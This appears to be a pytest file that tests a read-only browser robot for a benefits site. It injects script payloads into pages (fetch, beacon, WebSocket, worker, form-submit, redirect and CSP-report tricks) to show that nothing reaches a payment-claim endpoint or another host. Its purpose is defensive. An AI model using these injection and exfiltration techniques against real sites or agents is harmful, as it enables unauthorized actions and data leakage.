"""Only reading: what could register a payment claim or send anything never leaves the browser.

Between the robot and the site stands a proxy that writes down everything that left the browser.
"""

from __future__ import annotations

import logging
import re
from collections.abc import Callable, Iterator
from contextlib import suppress

import pytest
from kela_proxy import Proxy
from kela_world import ASKED, OTHER, World, permit, person

from devdata.standins.frame import Request, Response, Server
from robots.casework.answer import Answer
from robots.kela import Kela
from robots.kela.errors import RouteRefused
from robots.kela.page_map import read_page_map
from robots.kela.settings import RESOURCES

ROUTES = [
    re.compile(f"{route.method} {re.escape(route.path).replace(re.escape('*'), '[^/]+')}([?].*)?")
    for route in read_page_map(RESOURCES / "page-map.yaml").routes
]
CLAIM = "/maksuvaatimus"


class Watched:
    """A robot of which everything that leaves its browser is known."""

    def __init__(self, proxy: Proxy, robot: Kela, elsewhere: Server, seen: list[str]) -> None:
        self.proxy = proxy
        self.elsewhere = elsewhere.address
        self._robot = robot
        self._seen = seen

    def ask(self) -> Answer:
        return self._robot.ask(permit(), person(OTHER), ASKED)

    def add(self, html: str) -> None:
        """The benefits' page has something more at its end."""

        def change(path: str, page: str) -> str:
            return page.replace("</main>", f"</main>{html}") if path.endswith("/etuudet") else page

        self.proxy.change = change

    @property
    def escaped(self) -> list[str]:
        """What left and is not on the list."""
        known = [one for one in self.proxy.asked if not any(r.fullmatch(one) for r in ROUTES)]
        return known + self._seen


@pytest.fixture(scope="module")
def shared_watched(
    make_world: Callable[..., World], make_robot: Callable[..., Kela]
) -> Iterator[Watched]:
    seen: list[str] = []

    def note(request: Request) -> Response:
        seen.append(f"{request.method} {request.path}")
        return Response(200, b"", "text/html", (("Access-Control-Allow-Origin", "*"),))

    elsewhere = Server(note)
    proxy = Proxy(make_world().site.address)
    yield Watched(proxy, make_robot(proxy.address), elsewhere, seen)
    proxy.stop()
    elsewhere.stop()


@pytest.fixture
def watched(shared_watched: Watched, caplog: pytest.LogCaptureFixture) -> Watched:
    shared_watched.proxy.as_it_is()
    shared_watched._seen.clear()
    caplog.set_level(logging.WARNING)
    return shared_watched


def test_what_leaves_for_a_visit_is_on_the_list(watched: Watched) -> None:
    assert watched.ask().incomes
    assert len(watched.proxy.asked) > 5
    assert watched.escaped == []


SCRIPTS = {
    "fetch": "fetch('{claim}', {{method: 'POST', body: 'x'}})",
    "fetch to look": "fetch('{claim}')",
    "request": "const r = new XMLHttpRequest(); r.open('POST', '{claim}'); r.send('x')",
    "beacon": "navigator.sendBeacon('{claim}', 'x')",
    "image": "new Image().src = '{claim}'",
    "stylesheet": "document.head.append(Object.assign(document.createElement('link'),"
    " {{rel: 'stylesheet', href: '{claim}'}}))",
    "script": "document.head.append(Object.assign(document.createElement('script'),"
    " {{src: '{claim}'}}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {{src: '{claim}'}}))",
    "events": "new EventSource('{claim}')",
    "kept alive": "fetch('{claim}', {{method: 'POST', keepalive: true, body: 'x'}})",
    "fetched before": "document.head.append(Object.assign(document.createElement('link'),"
    " {{rel: 'prefetch', href: '{claim}'}}))",
    "another method": "fetch('/haku', {{method: 'DELETE'}})",
    "another host": "fetch('{elsewhere}/haku')",
    "another host's form": "fetch('{elsewhere}/haku', {{method: 'POST', mode: 'no-cors',"
    " body: 'x'}})",
}


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS)
def test_what_a_page_asks_for_itself_is_refused(
    watched: Watched, script: str, caplog: pytest.LogCaptureFixture
) -> None:
    written = script.format(claim=CLAIM, there=watched.proxy.address, elsewhere=watched.elsewhere)
    watched.add(f"<script>{written}</script>")
    assert watched.ask().incomes
    assert watched.escaped == []
    if "Image" not in script:  # pictures are not loaded anyway, and nobody is told
        assert "was refused" in caplog.text


@pytest.mark.parametrize(
    "way",
    [
        "new WebSocket('{socket}')",
        "const frame = document.createElement('iframe'); document.body.append(frame);"
        " new frame.contentWindow.WebSocket('{socket}')",
        "new Worker(URL.createObjectURL(new Blob([`new WebSocket('{socket}')`])))",
        "new Worker(URL.createObjectURL(new Blob([`fetch('{there}', {{method: 'POST'}})`])))",
        "new SharedWorker(URL.createObjectURL(new Blob([`fetch('{there}', {{method: 'POST'}})`])))",
        "navigator.serviceWorker.register('/tyyli.css')",
        "new WebTransport('{secure}')",
    ],
    ids=["socket", "frame", "socket of a worker", "worker", "shared", "service", "transport"],
)
def test_a_page_has_nothing_by_which_it_could_pass_by_the_list(watched: Watched, way: str) -> None:
    there = watched.proxy.address + CLAIM
    socket, secure = (there.replace("http:", scheme) for scheme in ("ws:", "https:"))
    written = way.format(there=there, socket=socket, secure=secure)
    watched.add(f"<script>{written}</script>")
    assert watched.ask().incomes
    assert watched.escaped == []


def test_a_report_on_the_page_itself_is_not_sent(
    watched: Watched, caplog: pytest.LogCaptureFixture
) -> None:
    """A page may order the browser to send reports, which no script asks for."""
    policy = f"style-src 'none'; report-uri {CLAIM}"
    watched.proxy.headers = (("Content-Security-Policy", policy),)
    watched.add("<style>p { color: red }</style>")
    assert watched.ask().incomes
    assert "was refused" in caplog.text
    assert watched.escaped == []


def test_a_page_that_has_others_fetched_ahead_stops_the_source(watched: Watched) -> None:
    """Nobody asks for them, and each would be a look at somebody's data."""
    watched.add(
        '<script type="speculationrules">{"prefetch": [{"source": "list", "eagerness": "immediate",'
        ' "urls": ["/haku"]}]}</script>'
    )
    with pytest.raises(RouteRefused):
        watched.ask()


WAYS_OUT = {
    "script": f'<script>location.href = "{CLAIM}"</script>',
    "form": f'<form method="post" action="{CLAIM}"></form>'
    "<script>document.forms[document.forms.length - 1].submit()</script>",
    "another host": '<script>location.href = "{elsewhere}/haku"</script>',
}


@pytest.mark.parametrize("way", WAYS_OUT.values(), ids=WAYS_OUT)
def test_a_page_that_leads_to_a_claim_stops_the_source(watched: Watched, way: str) -> None:
    watched.add(way.replace("{elsewhere}", watched.elsewhere))
    with pytest.raises(RouteRefused):
        watched.ask()
    assert watched.escaped == []


@pytest.mark.parametrize(
    "way",
    [
        f'<meta http-equiv="refresh" content="0; url={CLAIM}">',
        f'<script>window.open("{CLAIM}")</script>',
    ],
    ids=["refresh", "window"],
)
def test_a_page_that_leads_to_a_claim_by_the_way_reaches_none(watched: Watched, way: str) -> None:
    watched.add(way)
    with suppress(RouteRefused):  # or the robot has left the page before
        assert watched.ask().incomes
    assert watched.escaped == []


@pytest.mark.parametrize("page", ["/haku", "/hakemukset", "/maksut", "/tyyli.css"])
@pytest.mark.parametrize("target", [CLAIM, "{elsewhere}/haku"], ids=["claim", "another host"])
def test_a_redirect_is_stopped_before_it_leaves(watched: Watched, page: str, target: str) -> None:
    """Also a redirect of the form with the person's code, and one of a mere stylesheet."""
    to = target.replace("{elsewhere}", watched.elsewhere)
    watched.proxy.leading = lambda path: to if path.split("?")[0].endswith(page) else None
    with pytest.raises(RouteRefused):
        watched.ask()
    assert watched.escaped == []
